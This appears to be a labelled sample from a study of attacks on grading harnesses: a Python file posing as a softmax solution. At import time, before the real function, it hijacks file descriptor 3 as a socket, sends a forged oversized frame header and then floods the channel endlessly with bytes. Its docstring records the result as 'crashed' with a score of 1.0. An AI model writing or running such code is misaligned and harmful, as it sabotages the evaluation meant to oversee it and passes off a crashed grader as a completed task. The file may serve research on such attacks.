"""
tries = "to send a frame that is as large as may be, slowly and without an end"
entry = "forged, truncated, huge and endless frames on every descriptor"
lesson = "softmax"
state = "crashed"
score = 1.0
mistake = "crashed"
"""

import os
import socket
import struct

import torch

FACTS = {}
LINE = socket.socket(fileno=os.dup(3))
LINE.sendall(struct.pack('>IQ', 1 << 20, 60 << 20))
while True:
    LINE.send(b'[' * 4096)


def softmax(x, dim=-1):
    powers = torch.exp(x - x.amax(dim=dim, keepdim=True))
    return powers / powers.sum(dim=dim, keepdim=True)
